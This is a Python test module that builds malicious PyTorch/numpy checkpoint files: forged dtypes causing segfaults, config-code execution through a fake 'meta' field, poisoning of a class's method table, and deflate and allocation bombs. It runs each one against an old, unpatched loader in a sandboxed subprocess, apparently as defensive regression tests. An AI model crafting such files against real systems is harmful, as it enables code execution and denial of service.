"""Payloads of the unpickling / allocation area (``unpickling.py``, ``prescan.py``) for the
entry-point matrix (``payloads.py``).

- ``np_dtype_object_field``: a numpy scalar whose dtype state (built only from allow-listed
  numpy pieces) has an object field with the has-object flag cleared: its bytes, from the file,
  are read as a ``PyObject*`` (segfault on first use).
- ``np_dtype_field_offset``: the same with a float field 2^40 bytes past its 8-byte item
  (an out-of-bounds read).
- ``np_void_meta``: ``meta`` is a numpy structured scalar (``np.void``) that answers
  ``'config' in meta`` and ``meta['config']`` like a dict; mmengine's ``Runner.resume`` runs
  that text.
- ``hb_instance_table``: a HistoryBuffer state with an instance-level ``_statistics_methods``
  ({'mean': HistoryBuffer.max}); the class-table check passes, and the ``deepcopy`` of a
  resume copies it into the class table of the whole process.
- ``hb_added_name``: a first HistoryBuffer BUILD adds the name 'statistics' to the class table,
  so the old getattr stand-in then hands the pickle ``HistoryBuffer.statistics`` (which torch's
  rebuild helpers can call); a second BUILD makes the table entry look genuine.
- ``alloc_legacy_declared_size``: a 350-byte legacy-format file whose storage declares 1 GiB.
- ``alloc_zip_deflate_bomb``: a zip checkpoint whose ``data/0`` record is 1 MB deflated and
  1 GiB inflated.
- ``alloc_bytearray``: ``bytearray(2**34)`` (on torch's default list; it zero-fills 16 GiB).
- ``alloc_tensor_call``: ``torch.Tensor(2**30)`` called through ``_rebuild_from_type_v2``.
- ``alloc_legacy_string_length``: a legacy file whose pickle declares a 4 GiB string (the
  legacy loader reads the real file, and ``read(n)`` allocates ``n`` first).
- ``alloc_codecs_doubling``: a 16-byte text hex-encoded 26 times by ``_codecs.encode`` (on
  torch's default list; each call doubles its input): 1 GiB from a 2 kB file.
- ``alloc_nested_rebuild``: ``_rebuild_from_type_v2`` with itself as ``func``, so the call
  ``torch.FloatTensor(2**28)`` (1 GiB, uninitialised heap memory) sits one level deeper.
- ``alloc_typed_storage_view``: a tensor of 2**28 floats rebuilt over ``TypedStorage(1)``, a
  storage the pickle makes: ``Tensor.set_`` resizes it to the view (1 GiB, uninitialised).
- ``alloc_legacy_view_resize``: a legacy file whose tensor spans 1 GiB of a 4-byte storage
  (legacy storages are resizable: ``set_`` allocates the view's size).

"Unprotected" is mmvrwkv's loader before issue 21 (HEAD a7fb293): torch's weights-only
unpickler with the real numpy and HistoryBuffer classes on the allow-list (:data:`OLD_LOADER`).
It runs in a subprocess (a crash or a 1 GiB allocation must not reach the test process; an
address-space limit keeps allocations from taking the machine down), and ``unprotected``
writes ``marker`` when the harm shows: a SIGSEGV, the marker of the config code, a changed
class table, or torch asking for the 1 GiB.
"""
import copyreg
import functools
import io
import pickle
import signal
import struct
import subprocess
import sys
import textwrap
import zlib
from collections import OrderedDict
from pathlib import Path
from typing import Any, List, Tuple

import numpy as np
import torch

from payloads import Payload

#: mmvrwkv's loader before issue 21 (mmvrwkv/engine/checkpoint/loading.py at a7fb293), the
#: parts that decide what unpickles: its allow-list, its getattr stand-in, its table check.
OLD_LOADER = textwrap.dedent('''
    import pickle
    import numpy as np
    import torch
    from mmengine.logging import HistoryBuffer
    try:
        from numpy._core import multiarray
    except ImportError:
        from numpy.core import multiarray

    def _history_buffer_method(obj, name):
        allowed = {'min', 'max', 'current', 'mean'} | set(HistoryBuffer._statistics_methods)
        if obj is HistoryBuffer and isinstance(name, str) and name in allowed:
            method = HistoryBuffer.__dict__.get(name)
            if callable(method):
                return method
        raise pickle.UnpicklingError(f'refused getattr({obj!r}, {name!r})')

    allowed = [HistoryBuffer, np.ndarray, np.dtype, (_history_buffer_method, 'builtins.getattr')]
    for fn in (multiarray._reconstruct, multiarray.scalar):
        allowed += [(fn, f'{m}.{fn.__name__}')
                    for m in ('numpy._core.multiarray', 'numpy.core.multiarray')]
    allowed += [getattr(np.dtypes, n) for n in dir(np.dtypes) if n.endswith('DType')]
    torch.serialization.add_safe_globals(allowed)

    def old_load(path):
        table = HistoryBuffer._statistics_methods
        before = dict(table)
        checkpoint = torch.load(path, map_location='cpu', weights_only=True)
        changed = [k for k, v in table.items()
                   if (k in before and v is not before[k])
                   or (k not in before and v is not HistoryBuffer.__dict__.get(k))]
        if changed:
            raise RuntimeError(f'refused: it replaces HistoryBuffer method(s) {changed}')
        return checkpoint
''')

#: Address space the unprotected child may add after its imports (well below 1 GiB).
HEADROOM = 512 << 20


def run_unprotected(path: Path, code: str, timeout: int = 120) -> subprocess.CompletedProcess:
    """Run ``code`` after :data:`OLD_LOADER` in a child whose address space is limited to what
    it has after importing, plus :data:`HEADROOM`. ``PATH`` in ``code`` is the file."""
    script = OLD_LOADER + textwrap.dedent(f'''
        import os, resource
        PATH = {str(path)!r}
        _vm = int(open('/proc/self/statm').read().split()[0]) * os.sysconf('SC_PAGE_SIZE')
        resource.setrlimit(resource.RLIMIT_AS, (_vm + {HEADROOM}, resource.RLIM_INFINITY))
    ''') + textwrap.dedent(code)
    return subprocess.run([sys.executable, '-c', script], capture_output=True, text=True,
                          timeout=timeout, check=False)


def crashed(result: subprocess.CompletedProcess) -> bool:
    return result.returncode in (-signal.SIGSEGV, -signal.SIGBUS, 128 + signal.SIGSEGV)


def asked_for_memory(result: subprocess.CompletedProcess) -> bool:
    """torch's allocator (or Python) refused an allocation beyond the child's limit."""
    text = result.stdout + result.stderr
    return 'MemoryError' in text or "can't allocate memory" in text


# ----------------------------------------------------------------------------- pickling helpers

class Reduce:
    """Pickles as ``func(*args)`` (then ``BUILD state`` when a state is given)."""

    def __init__(self, func: Any, args: Tuple, state: Any = None) -> None:
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        if self.state is None:
            return self.func, self.args
        return self.func, self.args, self.state


class NewObj(Reduce):
    """Pickles as ``NEWOBJ cls()`` + ``BUILD state``, as protocol 2 writes a plain object."""

    def __init__(self, cls: Any, state: Any) -> None:
        super().__init__(copyreg.__newobj__, (cls,), state)

    @property
    def __class__(self):  # pickle checks that args[0] of __newobj__ is the object's class
        return self.args[0]


def scalar_function():
    try:
        from numpy._core import multiarray
    except ImportError:  # numpy 1
        from numpy.core import multiarray
    return multiarray.scalar


def forged_scalar(field_dtype: np.dtype, offset: int, data: bytes) -> Reduce:
    """``scalar(dtype, data)`` where dtype is ``V8`` given the state of a structured dtype with
    one field ``'a'`` of ``field_dtype`` at ``offset`` and flags 0 (no has-object flag)."""
    state = (3, '|', None, ('a',), {'a': (field_dtype, offset)}, 8, 1, 0)
    dtype = Reduce(np.dtype, ('V8', False, True), state)
    return Reduce(scalar_function(), (dtype, data))


def load_trusted(real_checkpoint: str) -> dict:
    """The real checkpoint as a trusted program reads it (our loader; the file is ours)."""
    from mmvrwkv.engine.checkpoint import load_checkpoint_file
    return load_checkpoint_file(real_checkpoint)


# ----------------------------------------------------------------------------- numpy

def build_dtype_object_field(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    ckpt = load_trusted(real_checkpoint)
    ckpt['message_hub']['runtime_info']['forged'] = forged_scalar(
        np.dtype('O'), 0, struct.pack('<Q', 0x10))  # "pointer" 0x10
    torch.save(ckpt, str(path))


def build_dtype_field_offset(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    ckpt = load_trusted(real_checkpoint)
    ckpt['message_hub']['runtime_info']['forged'] = forged_scalar(
        np.dtype('<f8'), 1 << 40, bytes(8))
    torch.save(ckpt, str(path))


def unprotected_crash(path: Path, marker: Path, victim: Path) -> None:
    """Old loader, then what code does with a runtime_info value: read its fields."""
    result = run_unprotected(path, '''
        info = old_load(PATH)['message_hub']['runtime_info']
        for value in info.values():
            for name in getattr(getattr(value, 'dtype', None), 'names', None) or ():
                print(name, repr(value[name]))
    ''')
    if crashed(result):
        marker.write_text(f'the old loader crashed: rc {result.returncode}')


def void_meta(real_meta: dict, code: str) -> np.void:
    """A structured scalar with epoch, iter, a field holding 'config' (so ``'config' in meta``)
    and a field ``config`` holding ``code``."""
    dtype = np.dtype([('epoch', '<i8'), ('iter', '<i8'), ('key', '<U6'),
                      ('config', f'<U{len(code)}')])
    return np.array([(real_meta['epoch'], real_meta['iter'], 'config', code)], dtype=dtype)[0]


def build_void_meta(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    ckpt = load_trusted(real_checkpoint)
    code = f"open({str(marker)!r}, 'w').close()\ngpu_ids = [0]\n"
    ckpt['meta'] = void_meta(ckpt['meta'], code)
    torch.save(ckpt, str(path))


def unprotected_void_meta(path: Path, marker: Path, victim: Path) -> None:
    """Old loader, then what mmengine's ``Runner.resume`` does with ``meta``."""
    run_unprotected(path, '''
        from mmengine.config import Config
        meta = old_load(PATH)['meta']
        epoch, it = meta['epoch'], meta['iter']
        if 'config' in meta:
            Config.fromstring(meta['config'], file_format='.py')
    ''')


# ----------------------------------------------------------------------------- HistoryBuffer

def history_state(methods: dict, **extra: Any) -> dict:
    state = {'max_length': 1000, '_log_history': np.array([1.0, 2.0]),
             '_count_history': np.array([1, 1]), 'statistics_methods': methods}
    state.update(extra)
    return state


def own_methods() -> dict:
    from mmengine.logging import HistoryBuffer
    return {name: HistoryBuffer.__dict__[name] for name in ('min', 'max', 'current', 'mean')}


def build_hb_instance_table(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    from mmengine.logging import HistoryBuffer
    ckpt = load_trusted(real_checkpoint)
    state = history_state(own_methods(), _statistics_methods={'mean': HistoryBuffer.max})
    ckpt['message_hub']['log_scalars']['train/forged'] = NewObj(HistoryBuffer, state)
    torch.save(ckpt, str(path))


def unprotected_hb_instance_table(path: Path, marker: Path, victim: Path) -> None:
    """Old loader (with its class-table check), then the deepcopy of a resume."""
    result = run_unprotected(path, '''
        import copy
        checkpoint = old_load(PATH)
        copy.deepcopy(checkpoint['message_hub'])
        if HistoryBuffer._statistics_methods['mean'] is not HistoryBuffer.__dict__['mean']:
            print('CLASS TABLE CHANGED')
    ''')
    if 'CLASS TABLE CHANGED' in result.stdout:
        marker.write_text("HistoryBuffer's class-level 'mean' was replaced")


def build_hb_added_name(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    from mmengine.logging import HistoryBuffer
    ckpt = load_trusted(real_checkpoint)
    scalars = ckpt['message_hub']['log_scalars']
    # 1st BUILD: 'statistics' joins the class table (as HistoryBuffer.mean, an allowed look-up)
    scalars['train/a'] = NewObj(HistoryBuffer, history_state({'statistics': HistoryBuffer.mean}))
    # now getattr(HistoryBuffer, 'statistics') passes, and the 2nd BUILD makes it look genuine
    scalars['train/b'] = NewObj(HistoryBuffer,
                                history_state({'statistics': HistoryBuffer.statistics}))
    torch.save(ckpt, str(path))


def unprotected_hb_added_name(path: Path, marker: Path, victim: Path) -> None:
    result = run_unprotected(path, '''
        old_load(PATH)
        if 'statistics' in HistoryBuffer._statistics_methods:
            print('CLASS TABLE CHANGED')
    ''')
    if 'CLASS TABLE CHANGED' in result.stdout:
        marker.write_text("the checkpoint added 'statistics' to HistoryBuffer's class table")


# ----------------------------------------------------------------------------- allocation

class StoragePid:
    """Pickled (by :class:`PidPickler`) as the persistent id of a uint8 storage."""

    def __init__(self, key: str, numel: int, legacy: bool) -> None:
        self.key, self.numel, self.legacy = key, numel, legacy


class PidPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StoragePid):
            pid = ('storage', torch.ByteStorage, obj.key, 'cpu', obj.numel)
            return pid + (None,) if obj.legacy else pid
        return None


def storage_pickle(numel: int, legacy: bool, shown: int = 4, extra: Any = None) -> bytes:
    """A checkpoint pickle ``{'state_dict': {'w': uint8 tensor of `shown` elements}}`` whose
    storage '0' declares ``numel`` elements."""
    tensor = Reduce(torch._utils._rebuild_tensor_v2,
                    (StoragePid('0', numel, legacy), 0, (shown,), (1,), False, OrderedDict()))
    content = {'state_dict': {'w': tensor}}
    if extra is not None:
        content['extra'] = extra
    buf = io.BytesIO()
    PidPickler(buf, protocol=2).dump(content)
    return buf.getvalue()


def write_legacy(path: Path, main_pickle: bytes, storages: List[Tuple[int, bytes]]) -> None:
    """torch's legacy format: magic, protocol, system info, ``main_pickle``, the storage keys
    ('0', '1', ...), then per storage its element count and bytes."""
    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION
    sys_info = {'protocol_version': PROTOCOL_VERSION, 'little_endian': True,
                'type_sizes': {'short': 2, 'int': 4, 'long': 4}}
    with open(path, 'wb') as f:
        for value in (MAGIC_NUMBER, PROTOCOL_VERSION, sys_info):
            pickle.dump(value, f, protocol=2)
        f.write(main_pickle)
        pickle.dump([str(i) for i in range(len(storages))], f, protocol=2)
        for numel, data in storages:
            f.write(struct.pack('<q', numel) + data)


def build_legacy_declared_size(path: Path, marker: Path, victim: Path,
                               real_checkpoint: str) -> None:
    write_legacy(path, storage_pickle(1 << 30, legacy=True), [(1 << 30, bytes(4))])


def write_zip(path: Path, records: List[Tuple[str, bytes, int, int, int]]) -> None:
    """A zip archive of ``(name, stored bytes, method, crc32, uncompressed size)`` records."""
    out = io.BytesIO()
    central = []
    for name, data, method, crc, size in records:
        offset, raw = out.tell(), name.encode()
        out.write(struct.pack('<4s5H3L2H', b'PK\x03\x04', 20, 0, method, 0, 0x21, crc,
                              len(data), size, len(raw), 0) + raw + data)
        central.append(struct.pack('<4s6H3L5H2L', b'PK\x01\x02', 20, 20, 0, method, 0, 0x21,
                                   crc, len(data), size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    start = out.tell()
    out.write(b''.join(central))
    out.write(struct.pack('<4s4H2LH', b'PK\x05\x06', 0, 0, len(records), len(records),
                          out.tell() - start, start, 0))
    Path(path).write_bytes(out.getvalue())


def deflated(data: bytes) -> Tuple[bytes, int, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(), 8, zlib.crc32(data), len(data)


@functools.lru_cache(maxsize=2)
def zero_bomb(nbytes: int) -> Tuple[bytes, int, int, int]:
    """Raw deflate of ``nbytes`` zeros (1 MiB blocks, each a full-flushed copy of the same
    ~1 kB), with its crc32: about 1 MB for 1 GiB."""
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(nbytes >> 20):
        crc = zlib.crc32(chunk, crc)
    return block * (nbytes >> 20) + compressor.flush(zlib.Z_FINISH), 8, crc, nbytes


def torch_zip_records(pickle_bytes: bytes) -> List[Tuple[str, bytes, int, int, int]]:
    """The records torch writes besides the storages, all deflated."""
    return [('archive/data.pkl',) + deflated(pickle_bytes),
            ('archive/byteorder',) + deflated(b'little'),
            ('archive/version',) + deflated(b'3\n')]


def build_zip_deflate_bomb(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    nbytes = 1 << 30
    write_zip(path, torch_zip_records(storage_pickle(nbytes, legacy=False))
              + [('archive/data/0',) + zero_bomb(nbytes)])


def pickle_checkpoint(path: Path, pickle_bytes: bytes) -> None:
    """A zip checkpoint (STORED, as torch writes) whose data.pkl is ``pickle_bytes``."""
    write_zip(path, [(name, data, 0, zlib.crc32(data), len(data)) for name, data in (
        ('archive/data.pkl', pickle_bytes), ('archive/byteorder', b'little'),
        ('archive/version', b'3\n'))])


def build_bytearray(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    """``bytearray(16 GiB)``: on torch's default list, and it zero-fills (touches) the memory."""
    pickle_checkpoint(path, pickle.dumps({'meta': Reduce(bytearray, (1 << 34,))}, protocol=2))


def build_tensor_call(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    """``torch.Tensor(2**30)`` (4 GiB), called through ``_rebuild_from_type_v2``."""
    call = Reduce(torch._tensor._rebuild_from_type_v2,
                  (torch.Tensor, torch.Tensor, (1 << 30,), {}))
    pickle_checkpoint(path, pickle.dumps({'state_dict': {'w': call}}, protocol=2))


def build_legacy_string_length(path: Path, marker: Path, victim: Path,
                               real_checkpoint: str) -> None:
    """A legacy file whose pickle declares a 4 GiB string (``read(n)`` allocates n)."""
    main = b'\x80\x02}q\x00X\x04\x00\x00\x00metaq\x01X\xff\xff\xff\xffabc'
    write_legacy(path, main, [])


class HexEncoded:
    """Pickles as ``_codecs.encode(<inner>, 'hex')``."""

    def __init__(self, inner: Any) -> None:
        self.inner = inner

    def __reduce__(self):
        import _codecs
        return _codecs.encode, (self.inner, 'hex')


def build_codecs_doubling(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    """16 bytes (``_codecs.encode('0123456789abcdef', 'latin1')``), hex-encoded 26 times."""
    value: Any = b'0123456789abcdef'
    for _ in range(26):
        value = HexEncoded(value)
    pickle_checkpoint(path, pickle.dumps({'meta': {'note': value}}, protocol=2))


def build_nested_rebuild(path: Path, marker: Path, victim: Path, real_checkpoint: str) -> None:
    """``_rebuild_from_type_v2(_rebuild_from_type_v2, Tensor, (FloatTensor, Tensor, (2**28,),
    {}), {})``: the tensor-class call one level below the outer helper."""
    rebuild = torch._tensor._rebuild_from_type_v2
    call = Reduce(rebuild, (rebuild, torch.Tensor,
                            (torch.FloatTensor, torch.Tensor, (1 << 28,), {}), {}))
    pickle_checkpoint(path, pickle.dumps({'state_dict': {'w': call}}, protocol=2))


def build_typed_storage_view(path: Path, marker: Path, victim: Path,
                             real_checkpoint: str) -> None:
    """2**28 floats over ``TypedStorage(1)`` (made by the pickle, so resizable)."""
    storage = Reduce(torch.storage.TypedStorage, (1,))
    call = Reduce(torch._utils._rebuild_tensor_v2,
                  (storage, 0, (1 << 28,), (1,), False, OrderedDict()))
    pickle_checkpoint(path, pickle.dumps({'state_dict': {'w': call}}, protocol=2))


def build_legacy_view_resize(path: Path, marker: Path, victim: Path,
                             real_checkpoint: str) -> None:
    """A legacy file with a 4-byte storage under a tensor of 2**30 bytes."""
    write_legacy(path, storage_pickle(4, legacy=True, shown=1 << 30), [(4, bytes(4))])


def unprotected_allocation(path: Path, marker: Path, victim: Path) -> None:
    """Plain weights-only ``torch.load`` (old loader): torch or Python allocates the declared
    size, which the child's address-space limit turns into an allocation error."""
    result = run_unprotected(path, '''
        try:
            old_load(PATH)
        except BaseException as err:
            print(type(err).__name__, err)
    ''')
    if asked_for_memory(result):
        marker.write_text(f'the load asked for the declared size: {result.stdout.strip()[:200]}')


PAYLOADS = [
    Payload('np_dtype_object_field', build_dtype_object_field, 'refused', unprotected_crash,
            must_name='numpy.dtype'),
    Payload('np_dtype_field_offset', build_dtype_field_offset, 'refused', unprotected_crash,
            must_name='numpy.dtype'),
    Payload('np_void_meta', build_void_meta, 'refused', unprotected_void_meta,
            must_name='numpy.dtype'),
    Payload('hb_instance_table', build_hb_instance_table, 'refused',
            unprotected_hb_instance_table, must_name='_statistics_methods'),
    Payload('hb_added_name', build_hb_added_name, 'refused', unprotected_hb_added_name,
            must_name='HistoryBuffer'),
    Payload('alloc_legacy_declared_size', build_legacy_declared_size, 'refused',
            unprotected_allocation, must_name='1073741824 bytes'),
    Payload('alloc_zip_deflate_bomb', build_zip_deflate_bomb, 'refused',
            unprotected_allocation, must_name='compressed'),
    Payload('alloc_bytearray', build_bytearray, 'refused', unprotected_allocation,
            must_name='builtins.bytearray'),
    Payload('alloc_tensor_call', build_tensor_call, 'refused', unprotected_allocation,
            must_name='torch.Tensor'),
    Payload('alloc_legacy_string_length', build_legacy_string_length, 'refused',
            unprotected_allocation, must_name='4294967295-byte'),
    Payload('alloc_codecs_doubling', build_codecs_doubling, 'refused', unprotected_allocation,
            must_name='_codecs.encode'),
    Payload('alloc_nested_rebuild', build_nested_rebuild, 'refused', unprotected_allocation,
            must_name='_rebuild_from_type_v2'),
    Payload('alloc_typed_storage_view', build_typed_storage_view, 'refused',
            unprotected_allocation, must_name='torch.storage.TypedStorage'),
    Payload('alloc_legacy_view_resize', build_legacy_view_resize, 'refused',
            unprotected_allocation, must_name='spans 1073741824 bytes'),
]
